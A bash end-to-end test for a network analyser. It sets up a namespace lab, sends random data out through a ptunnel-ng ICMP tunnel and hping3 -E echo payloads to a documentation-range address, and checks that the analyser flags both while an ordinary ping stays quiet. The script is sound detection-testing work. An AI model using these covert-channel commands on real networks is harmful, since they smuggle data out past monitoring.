#!/usr/bin/env bash
# covert_tunnel.sh — end to end: real ptunnel-ng and hping3 traffic recorded in a two-namespace
# lab must be reported as a tunnel and as exfiltration; an ordinary ping in the same lab must not.
#
#   covert_tunnel.sh BIN
#
#   atk  10.77.0.10/24  eth0 ──veth── eth0  ext  10.77.0.1/24 (the attacker's gateway)
#                                                203.0.113.7/24 ("outside": a documentation range)
# 1. ptunnel-ng proxy on ext (the kernel's own echo replies turned off there, as on a real proxy),
#    a TCP sink behind it; the client on atk pushes 60 kB through the tunnel.
# 2. hping3 -1 -E FILE -d 600 sends a base64 file out in echo payloads.
# 3. ping -c 4 to the gateway: ordinary troubleshooting.
# Each is captured on atk's eth0 and analysed on its own.
set -euo pipefail
bin=${1:?usage: covert_tunnel.sh BIN}
[[ $bin == /* ]] || bin=$PWD/$bin
. "$(dirname "$0")/lib.sh"

e2e_require tcpdump ptunnel-ng hping3 socat ping python3
e2e_init

e2e_ns atk
e2e_ns ext
e2e_link atk eth0 10.77.0.10/24 ext eth0 10.77.0.1/24
e2e_addr ext eth0 203.0.113.7/24
e2e_route atk 203.0.113.0/24 10.77.0.1
e2e_seal
e2e_targets_assigned 203.0.113.7 10.77.0.1

# ---- 1. ptunnel-ng
e2e_x 5 ext sysctl -qw net.ipv4.icmp_echo_ignore_all=1
e2e_bg 60 ext socat -u TCP-LISTEN:9000,reuseaddr OPEN:/dev/null
e2e_bg 60 ext ptunnel-ng -v -1 -o/dev/null
sleep 1
cap1=$E2E_TMP/tunnel.pcap
e2e_capture_start atk eth0 "$cap1" 60
e2e_bg 50 atk ptunnel-ng -v -1 -o/dev/null -p203.0.113.7 -l2222 -r127.0.0.1 -R9000
client=$E2E_LAST_PID
sleep 2
head -c 60000 /dev/urandom >"$E2E_TMP/blob"
e2e_x 30 atk socat -u "OPEN:$E2E_TMP/blob" TCP:127.0.0.1:2222 || true
sleep 3
kill -TERM "$client" 2>/dev/null || true
e2e_capture_stop
e2e_x 5 ext sysctl -qw net.ipv4.icmp_echo_ignore_all=0

packets=$(timeout 30 tcpdump -n -r "$cap1" icmp 2>/dev/null | wc -l)
((packets >= 40)) || e2e_fail "the tunnel capture holds only $packets ICMP packets"
e2e_analyze "$bin" "$cap1" "$E2E_TMP/tunnel.jsonl"
e2e_has_finding "$E2E_TMP/tunnel.jsonl" tunnel 10.77.0.10 ||
  { cat "$E2E_TMP/tunnel.jsonl" >&2; e2e_fail "no tunnel finding from 10.77.0.10"; }
e2e_log "ok: ptunnel-ng reported as a tunnel ($packets ICMP packets)"

# ---- 2. hping3 exfiltration
cap2=$E2E_TMP/exfil.pcap
e2e_record_exfil atk 203.0.113.7 "$cap2"
e2e_analyze "$bin" "$cap2" "$E2E_TMP/exfil.jsonl"
if ! e2e_has_finding "$E2E_TMP/exfil.jsonl" exfiltration 10.77.0.10 &&
   ! e2e_has_finding "$E2E_TMP/exfil.jsonl" tunnel 10.77.0.10; then
  cat "$E2E_TMP/exfil.jsonl" >&2
  e2e_fail "no exfiltration or tunnel finding from 10.77.0.10 for hping3 -E"
fi
e2e_log "ok: hping3 -E reported"

# ---- 3. an ordinary ping: nothing of severity low or above
cap3=$E2E_TMP/ping.pcap
e2e_capture_start atk eth0 "$cap3" 30
e2e_x 15 atk ping -c 4 -i 0.3 10.77.0.1 >/dev/null
e2e_capture_stop
e2e_analyze "$bin" "$cap3" "$E2E_TMP/ping.jsonl"
python3 - "$E2E_TMP/ping.jsonl" <<'PY' || e2e_fail "an ordinary ping got a finding of severity low or above"
import json, sys
bad = [o for o in map(json.loads, open(sys.argv[1])) if o.get("type") == "finding" and o.get("severity") != "info"]
for o in bad:
    print(json.dumps(o), file=sys.stderr)
sys.exit(1 if bad else 0)
PY
e2e_log "ok: an ordinary ping stays quiet"
